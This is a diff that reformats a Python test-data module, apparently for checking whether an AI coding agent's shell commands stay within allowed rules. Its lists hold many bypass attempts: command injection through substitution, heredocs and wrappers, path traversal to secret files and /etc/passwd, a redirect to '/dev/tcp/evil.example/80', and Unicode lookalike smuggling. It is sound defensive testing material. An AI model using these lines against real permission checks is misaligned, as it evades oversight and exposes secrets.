@@ -1,7 +1,7 @@
 """Command lines that want more than they were allowed: data, for whoever judges or runs them.
 
-Each line runs in a tree as `hostile_tree` makes it: the project is the working folder, ``../outside`` holds a secret, and
-``payload`` and ``evil.sh`` leave the file PWNED. `RULES` are rules that such lines could pass.
+Each line runs in a tree as `hostile_tree` makes it: the project is the working folder, ``../outside`` holds a secret,
+and ``payload`` and ``evil.sh`` leave the file PWNED. `RULES` are rules that such lines could pass.
 """
 
 from itertools import product
@@ -13,7 +13,20 @@ PAYLOADS: Final = ("touch PWNED", "sh payload")
 RULES: Final = (
     *("ls *", "cat *", "echo *", "grep *", "rg *", "git status *", "git diff *", "git log *", "git show *", "git *"),
     *("find *", "fd *", "head *", "tail *", "wc *", "sort *", "uniq *", "sed *", "awk *", "gawk *", "diff *", "date *"),
-    *("cd *", "test *", "printf *", "tar *", "tee *", "cp *", "curl *", "xargs *", "env *", "exec *", "nice *", "tree *"),
+    *(
+        "cd *",
+        "test *",
+        "printf *",
+        "tar *",
+        "tee *",
+        "cp *",
+        "curl *",
+        "xargs *",
+        "env *",
+        "exec *",
+        "nice *",
+        "tree *",
+    ),
     *("stat *", "du *", "file *", "tr *", "cut *", "true *", "timeout *", "npm *", "npm view *", "cargo *", "go *"),
     *("make *", "gcc *", "ruff *", "mypy *", "pytest *", "git clone *", "rm *", "mv *", "ln *", "realpath *", "od *"),
 )
@@ -24,22 +37,54 @@ _FORMS: Final = (
     *("{h} <<< $(( $({p}) ))", "{h} $(( $({p}) ))", "{h} $[ $({p}) ]", "{h} ${{x:-$({p})}}", '{h} "${{x:=$({p})}}"'),
     *("{h} ${{x/a/$({p})}}", '{h} "${{a[$({p})]}}"', "{h} 'a[$({p})]'; ls <<< $((_))", "{h} <<E\n$({p})\nE"),
     *("{h} <<-E\n\t$({p})\n\tE", "{h} <<foo\\\n\n$({p})\nfoo", "{h} <<'E'\nE\n{p}", "{h}; {p}", "{h} && {p}"),
-    *("{h} || {p}", "{h} | {p}", "{h} |& {p}", "{h} & {p}", "{h}\n{p}", "{h} \\\n; {p}", "({p})", "{{ {p}; }}", "! {p}"),
+    *(
+        "{h} || {p}",
+        "{h} | {p}",
+        "{h} |& {p}",
+        "{h} & {p}",
+        "{h}\n{p}",
+        "{h} \\\n; {p}",
+        "({p})",
+        "{{ {p}; }}",
+        "! {p}",
+    ),
     *("if {p}; then {h}; fi", "while {p}; do break; done", "for i in 1; do {p}; done", "case x in x) {p};; esac"),
     *("ls() {{ {p}; }}; {h}", "function cat {{ {p}; }}; {h}", "alias ls='{p}'\n{h}", "coproc {p}", "time {p}"),
     *("[[ -n $({p}) ]]", "(( a[$({p})] ))", "eval {p}", "eval '{p}'", "exec {p}", "command {p}", "builtin eval {p}"),
     *("trap '{p}' EXIT; {h}", "PATH=. {h}", "PATH=.; {h}", "export PATH=.; {h}", "BASH_ENV=payload bash -c '{h}'"),
     *("IFS=x; {h}", "hash -p ./evil.sh ls; {h}", "source payload", ". ./payload", "bash -c '{p}'", "{h} | sh payload"),
-    *("{h} # \n{p}", "{h} ''$({p})''", "{h} a$({p})b", "{h} \"a\"`{p}`", "{h} {{a,$({p})}}", "echo '{p}' | sh", "{h} \r\n{p}"),
+    *(
+        "{h} # \n{p}",
+        "{h} ''$({p})''",
+        "{h} a$({p})b",
+        '{h} "a"`{p}`',
+        "{h} {{a,$({p})}}",
+        "echo '{p}' | sh",
+        "{h} \r\n{p}",
+    ),
 )
 
 _WRAPPERS: Final = (
     *("env {p}", "env -i {p}", "env -iu ls {p}", "env -S '{p}'", "env --spl='{p}' cat", "env X=1 {p}", "env -C . {p}"),
     *("exec -la ls {p}", "exec -a ls {p}", "exec -c {p}", "nice {p}", "nice -n 5 {p}", "./nice ls", "./ls", "bin/ls"),
     *("nohup {p}", "timeout 5 {p}", "timeout -k 1 5 {p}", "timeout 5 timeout 5 {p}", "setsid {p}", "stdbuf -o0 {p}"),
-    *("xargs {p}", "echo {p} | xargs env", "ls | xargs -I@ {p}", "xargs -a payload sh", "busybox {p}", "busybox sh payload"),
+    *(
+        "xargs {p}",
+        "echo {p} | xargs env",
+        "ls | xargs -I@ {p}",
+        "xargs -a payload sh",
+        "busybox {p}",
+        "busybox sh payload",
+    ),
     *("sudo {p}", "su -c '{p}'", "find . -exec {p} \\;", "find . -maxdepth 0 -exec {p} ';'", "find . -execdir {p} +"),
-    *("find . -ok {p} \\;", "watch -n1 {p}", "script -c '{p}' x", "parallel {p} ::: a", "sh -c '{p}'", "bash -lc '{p}'"),
+    *(
+        "find . -ok {p} \\;",
+        "watch -n1 {p}",
+        "script -c '{p}' x",
+        "parallel {p} ::: a",
+        "sh -c '{p}'",
+        "bash -lc '{p}'",
+    ),
     *("bash -i -c '{p}'", "bash payload", "bash < payload", "sh -s < payload", "dash payload", "command -p {p}"),
 )
 
@@ -388,11 +433,26 @@ _OUTSIDE: Final = (
     *("link-dir/inner.txt", "dlink/../../../outside/secret.txt", "a://../../outside/secret.txt", "./link-file"),
     *("/proc/self/cwd/../outside/secret.txt", "/proc/self/root/etc/passwd", "/dev/fd/../../../etc/passwd", "$HOME/x"),
     *("src/../../outside/secret.txt", "link-*/inner.txt", "../*", "*/../../outside/*", "link-d?r/*", "l[i]nk-dir/*"),
-    *("src/*/secret.txt", ".*/outside/secret.txt", "'../outside/secret.txt'", '".."/outside/secret.txt', "..\\/outside/secret.txt"),
+    *(
+        "src/*/secret.txt",
+        ".*/outside/secret.txt",
+        "'../outside/secret.txt'",
+        '".."/outside/secret.txt',
+        "..\\/outside/secret.txt",
+    ),
     *("up/outside/secret.txt", "root/etc/passwd", "absolute/secret.txt", "src/deep/up/outside/secret.txt"),
 )
 _READ_WITH: Final = (
-    *("cat {o}", "head -n 1 {o}", "grep -n x {o}", "wc -l {o}", "sort {o}", "diff a.txt {o}", "tail -c 9 {o}", "nl {o}"),
+    *(
+        "cat {o}",
+        "head -n 1 {o}",
+        "grep -n x {o}",
+        "wc -l {o}",
+        "sort {o}",
+        "diff a.txt {o}",
+        "tail -c 9 {o}",
+        "nl {o}",
+    ),
     *("sed -n 1p {o}", "awk '{{print $1}}' {o}", "od -c {o}", "cat < {o}", "cat a.txt {o}", "cat -- {o}", "stat {o}"),
     *("timeout 5 cat {o}", "ls && cat {o}", "ls | cat - {o}", "cut -c1-9 {o}", "md5sum {o}"),
 )
@@ -402,7 +462,13 @@ _WRITES: Final = tuple(
     for command in ("echo x", "ls", "git diff", "cat a.txt")
     for operator, target in (
         *((">", "src/b.py"), (">>", "src/b.py"), (">|", "f"), ("&>", "f"), ("2>", "f"), ("<>", "f"), (">&", "f")),
-        *((">", "../outside/f"), (">", "link-file"), (">", ".git/config"), (">", "$X"), (">", "/dev/tcp/evil.example/80")),
+        *(
+            (">", "../outside/f"),
+            (">", "link-file"),
+            (">", ".git/config"),
+            (">", "$X"),
+            (">", "/dev/tcp/evil.example/80"),
+        ),
         *((">", ".bashrc"), ("1>", "f"), ("3>", "f"), (">", "~/f"), (">", "'f'"), (">", "/dev/full")),
     )
 )
@@ -410,12 +476,25 @@ _WRITES: Final = tuple(
 _LOOKALIKES: Final = (
     *("ls\u00a0; touch PWNED", "ls \uff1b touch PWNED", "\u1680ls", "ls\u2028touch PWNED", "ls \u202e ; touch PWNED"),
     *("c\u0430t a.txt", "l\u0455", "ls \x1b[8m; touch PWNED", "ls \x08\x08sh payload", "ls \x7f", "ls\rtouch PWNED"),
-    *("ls \x0btouch PWNED", "ls\x0ctouch PWNED", "ls \u200b-la", "g\u0456t status", "echo \ud800", "ls \x00; touch PWNED"),
+    *(
+        "ls \x0btouch PWNED",
+        "ls\x0ctouch PWNED",
+        "ls \u200b-la",
+        "g\u0456t status",
+        "echo \ud800",
+        "ls \x00; touch PWNED",
+    ),
     *("\ufeffls", "ls \u3000x", "ls\u2003x", "echo '\u00e9\\' ; touch PWNED '", 'echo "\u00e9\\" ; touch PWNED #"'),
 )
 
 _BRACES: Final = (
-    *("ls {a,b}", "cat {a.txt,../outside/secret.txt}", "echo {1..99999999}", "git diff {--stat,--output=f}", "ls {,-L}"),
+    *(
+        "ls {a,b}",
+        "cat {a.txt,../outside/secret.txt}",
+        "echo {1..99999999}",
+        "git diff {--stat,--output=f}",
+        "ls {,-L}",
+    ),
     *("find {.,-delete}", 'ls {"x y",-L}', "cat {'a',/etc/passwd}", "sort {a.txt,-o,f}", "ls {a" + "x" * 2_100 + ",b}"),
     *("{ls,-L}", "{touch,PWNED}", "echo }{", "git log {-p,--ext-diff}", "rg {x,--pre=./evil.sh}"),
 )
@@ -434,7 +513,19 @@ _LARGE: Final = (
 )
 
 _CAUGHT: Final = (
-    *("ls *", "cat *", "sort *", "rm *", "tar cf x *", "git diff *", "grep x *", "find *", "sort -*", "cat ?-x", "ls [-]*"),
+    *(
+        "ls *",
+        "cat *",
+        "sort *",
+        "rm *",
+        "tar cf x *",
+        "git diff *",
+        "grep x *",
+        "find *",
+        "sort -*",
+        "cat ?-x",
+        "ls [-]*",
+    ),
 )
 """With a file ``--output=f`` or ``-exec`` in the folder."""
 
@@ -455,11 +546,43 @@ LINES: Final = tuple(
 )
 
 HARMLESS: Final = (
-    *("ls", "ls -la src", "cat a.txt", "cat a.txt src/b.py | head -n 5", "git status", "git --no-pager log --oneline -5"),
-    *("git diff --stat HEAD", "git show HEAD:a.txt", "rg -n TODO src", "grep -rn 'a b' . | wc -l", "find . -name '*.py'"),
-    *("sed -n '1,20p' a.txt", "awk '{print $1}' a.txt", "cd src && cat b.py", "cd src/deep && ls -la", "echo hello world"),
+    *(
+        "ls",
+        "ls -la src",
+        "cat a.txt",
+        "cat a.txt src/b.py | head -n 5",
+        "git status",
+        "git --no-pager log --oneline -5",
+    ),
+    *(
+        "git diff --stat HEAD",
+        "git show HEAD:a.txt",
+        "rg -n TODO src",
+        "grep -rn 'a b' . | wc -l",
+        "find . -name '*.py'",
+    ),
+    *(
+        "sed -n '1,20p' a.txt",
+        "awk '{print $1}' a.txt",
+        "cd src && cat b.py",
+        "cd src/deep && ls -la",
+        "echo hello world",
+    ),
     *("wc -l src/*.py", "head -20 a.txt", "sort a.txt | uniq -c", "test -f a.txt && echo yes || echo no", "du -sh ."),
-    *("git log -p -- a.txt 2>&1 | head -n 50", "timeout 10 grep -r x src", "date +%F", "pwd; ls", "cat 'a.txt' \"src/b.py\""),
-    *("tail -n +5 a.txt", "diff -u a.txt src/b.py", "stat -c %s a.txt", "tr a-z A-Z", "git branch -a", "git rev-parse HEAD"),
+    *(
+        "git log -p -- a.txt 2>&1 | head -n 50",
+        "timeout 10 grep -r x src",
+        "date +%F",
+        "pwd; ls",
+        "cat 'a.txt' \"src/b.py\"",
+    ),
+    *(
+        "tail -n +5 a.txt",
+        "diff -u a.txt src/b.py",
+        "stat -c %s a.txt",
+        "tr a-z A-Z",
+        "git branch -a",
+        "git rev-parse HEAD",
+    ),
 )
 """Lines that only read, inside: they need no question in the mode auto."""
